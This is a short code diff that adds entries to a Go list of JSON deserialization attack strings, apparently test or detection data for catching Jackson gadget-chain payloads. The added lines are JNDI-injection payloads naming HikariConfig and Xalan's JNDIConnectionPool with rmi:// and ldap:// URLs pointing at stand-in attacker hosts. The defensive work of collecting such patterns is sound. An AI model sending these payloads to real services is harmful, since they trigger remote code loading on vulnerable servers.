@@ -61,6 +61,9 @@ var gadgetJSONAttacks = []string{
 	`{"t":"x.y.JndiRefForwardingDataSource","jndiName":"iiop://e.vil/x"}`,
 	// attack 20's: Jackson's SNAKE_CASE naming strategy
 	`{"com.zaxxer.hikari.HikariConfig":{"metric_registry":"rmi://evil:1099/x"}}`, `{"x":{"health_check_registry":"ldap://evil:1389/x"}}`,
+	// attack 21's: LOWER_DOT_CASE, Xalan's JNDIConnectionPool
+	`{"metric.registry":"rmi://evil.example/x"}`, `{"com.zaxxer.hikari.HikariConfig":{"metric.registry":"ldap://evil.example/x"}}`,
+	`{"x":{"type":"org.apache.xalan.lib.sql.JNDIConnectionPool","jndiPath":"ldap://evil.example/x"}}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
